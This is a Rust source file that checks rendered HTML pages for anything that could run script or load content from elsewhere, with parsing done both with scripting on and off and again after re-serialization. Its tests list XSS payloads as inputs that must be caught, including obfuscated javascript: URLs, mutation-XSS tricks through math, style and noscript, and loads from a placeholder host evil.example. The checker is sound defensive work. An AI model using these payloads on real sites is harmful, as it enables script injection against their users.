//! A page, read as a browser reads it → what in it could run or load something.

use html5ever::tendril::TendrilSink;
use html5ever::tree_builder::TreeBuilderOpts;
use html5ever::{Attribute, ParseOpts, parse_document, serialize};
use markup5ever_rcdom::{Handle, NodeData, RcDom, SerializableHandle};

/// Elements that the theme uses. Every other one is an intruder.
const ELEMENTS: &str = " a abbr address article aside b bdo blockquote body br button caption cite code col colgroup dd del details div dl dt em \
    fieldset figcaption figure footer form h1 h2 h3 h4 h5 h6 head header hr html i img input ins kbd label legend li link main mark meta nav \
    noscript ol optgroup option output p pre q s samp script search section select small span strong sub summary sup svg table tbody td template \
    tfoot th thead time title tr ul var g path rect line circle text tspan desc use polyline polygon defs pattern ";

/// Attributes that hold an address.
const ADDRESSES: [&str; 13] = [
    "action",
    "background",
    "cite",
    "data",
    "formaction",
    "href",
    "icon",
    "longdesc",
    "manifest",
    "ping",
    "poster",
    "src",
    "srcset",
];

/// Reads a page with scripts on and off, and what each writes again, as a program that copies a page would: words that stand
/// still in one reading must not come to life in another.
pub(crate) fn wrong(html: &str) -> Vec<String> {
    let mut wrong = Vec::new();
    for scripting_enabled in [true, false] {
        let first = tree(html, scripting_enabled);
        look(&first.document, &mut wrong);
        let mut again = Vec::new();
        let root: SerializableHandle = first.document.clone().into();
        serialize(&mut again, &root, Default::default()).expect("memory takes everything");
        let again = String::from_utf8(again).expect("a page is text");
        look(&tree(&again, scripting_enabled).document, &mut wrong);
    }
    wrong.sort();
    wrong.dedup();
    wrong
}

/// The words of a page as a reader sees them, and its attributes, a line each.
pub(crate) fn words(html: &str) -> String {
    let mut words = String::new();
    gather(&tree(html, false).document, &mut words);
    words
}

/// Whether the element that stands behind a text stands beside it, not inside: every element of the text was closed.
pub(crate) fn foot_is_outside(html: &str) -> bool {
    let mut is_outside = false;
    each(&tree(html, true).document, |node| {
        let NodeData::Element { name, .. } = &node.data else {
            return;
        };
        if &*name.local == "body" {
            let children = node.children.borrow();
            let last = children.last().map(|last| match &last.data {
                NodeData::Element { name, .. } => name.local.to_string(),
                _ => String::new(),
            });
            is_outside = children.len() == 2 && last.as_deref() == Some("footer");
        }
    });
    is_outside
}

fn tree(html: &str, scripting_enabled: bool) -> RcDom {
    let options = ParseOpts {
        tree_builder: TreeBuilderOpts {
            scripting_enabled,
            ..Default::default()
        },
        ..Default::default()
    };
    parse_document(RcDom::default(), options).one(html)
}

/// Every node, without recursion: a page may be deep.
fn each(root: &Handle, mut visit: impl FnMut(&Handle)) {
    let mut waiting = vec![root.clone()];
    while let Some(node) = waiting.pop() {
        visit(&node);
        if let NodeData::Element {
            template_contents, ..
        } = &node.data
        {
            waiting.extend(template_contents.borrow().clone());
        }
        waiting.extend(node.children.borrow().iter().rev().cloned());
    }
}

fn gather(root: &Handle, words: &mut String) {
    each(root, |node| match &node.data {
        NodeData::Text { contents } => words.push_str(&contents.borrow()),
        NodeData::Element { attrs, .. } => {
            for attribute in attrs.borrow().iter() {
                words.push('\n');
                words.push_str(&attribute.value);
                words.push('\n');
            }
        }
        _ => {}
    });
}

fn look(root: &Handle, wrong: &mut Vec<String>) {
    each(root, |node| {
        let NodeData::Element { name, attrs, .. } = &node.data else {
            if let NodeData::Comment { contents } = &node.data {
                wrong.push(format!("a comment: {contents}"));
            }
            return;
        };
        let tag = &*name.local;
        let namespace = name.ns.rsplit('/').next().unwrap_or("");
        if !ELEMENTS.contains(&format!(" {tag} ")) || !matches!(namespace, "xhtml" | "svg") {
            wrong.push(format!("<{tag}> ({namespace})"));
        }
        if tag == "script" || tag == "style" {
            let attrs = attrs.borrow();
            let of = |wanted: &str| {
                attrs
                    .iter()
                    .find(|it| &*it.name.local == wanted)
                    .map(|it| it.value.to_string())
            };
            let is_data = of("type").as_deref() == Some("application/ld+json");
            let is_own = of("src").is_some_and(|src| {
                src.trim_start_matches("../")
                    .trim_start_matches("/a/b/")
                    .starts_with("assets/")
            }) && node.children.borrow().is_empty();
            if !is_data && !is_own {
                wrong.push(format!("a script: {}", text_in(node)));
            }
        }
        for attribute in attrs.borrow().iter() {
            attribute_wrong(tag, attribute, wrong);
        }
    });
}

fn text_in(node: &Handle) -> String {
    let mut text = String::new();
    gather(node, &mut text);
    text
}

fn attribute_wrong(tag: &str, attribute: &Attribute, wrong: &mut Vec<String>) {
    let (name, value) = (&*attribute.name.local, &*attribute.value);
    if name.starts_with("on")
        || matches!(
            name,
            "style" | "srcdoc" | "formaction" | "ping" | "http-equiv"
        ) && tag != "meta"
    {
        wrong.push(format!("{tag} {name}={value}"));
    }
    if name == "http-equiv"
        && !["refresh", "content-security-policy"].contains(&value.to_lowercase().as_str())
    {
        wrong.push(format!("{tag} {name}={value}"));
    }
    if name == "data-at" {
        wrong.push(format!("a place in a file: {value}"));
    }
    if !ADDRESSES.contains(&name) {
        return;
    }
    // WHATWG URL, 4.4: what a browser leaves out before it looks for the scheme.
    let bare: String = value
        .trim_start_matches(|letter: char| letter <= ' ')
        .chars()
        .filter(|letter| !"\t\n\r".contains(*letter))
        .collect();
    let scheme = bare
        .split_once(':')
        .map(|(scheme, _)| scheme)
        .filter(|scheme| {
            scheme.starts_with(|letter: char| letter.is_ascii_alphabetic())
                && scheme
                    .chars()
                    .all(|letter| letter.is_ascii_alphanumeric() || "+-.".contains(letter))
        });
    if let Some(scheme) = scheme
        && !["http", "https", "mailto", "tel", "sms", "webcal"]
            .contains(&scheme.to_ascii_lowercase().as_str())
    {
        wrong.push(format!("{tag} {name}={value}"));
    }
    let loads = matches!(
        (tag, name),
        (_, "src" | "srcset" | "poster" | "action" | "background") | ("link", "href")
    );
    let elsewhere = scheme.is_some()
        || bare.starts_with("//")
        || bare.starts_with("\\")
        || bare.starts_with("/\\");
    if loads && elsewhere && !bare.starts_with("https://example.org/a/b/") {
        wrong.push(format!("loads from elsewhere: {tag} {name}={value}"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_run_is_seen() {
        for html in [
            "<script>x()</script>",
            "<script src=//evil.example/x.js></script>",
            "<p onclick=x()>",
            "<a href='jav&#9;ascript:x()'>a</a>",
            "<a href=' \x01javascript:x()'>a</a>",
            "<iframe srcdoc='<script>x()</script>'></iframe>",
            "<svg><a xlink:href='javascript:x()'>a</a></svg>",
            "<math><mtext><style><img src=x onerror=x()></style></mtext></math>",
            "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
            "<img src=//evil.example/x.png>",
            "<p style='background:url(x)'>",
            "<base href=//evil.example/>",
            "<form action=https://evil.example/></form>",
            "<template><img src=x onerror=x()></template>",
        ] {
            assert!(!wrong(html).is_empty(), "{html}");
        }
        for html in [
            "<p>&lt;script&gt;</p>",
            "<a href='https://example.org/?q=javascript:'>a</a>",
            "<img src=x.png alt=onclick>",
        ] {
            assert_eq!(wrong(html), Vec::<String>::new(), "{html}");
        }
    }
}
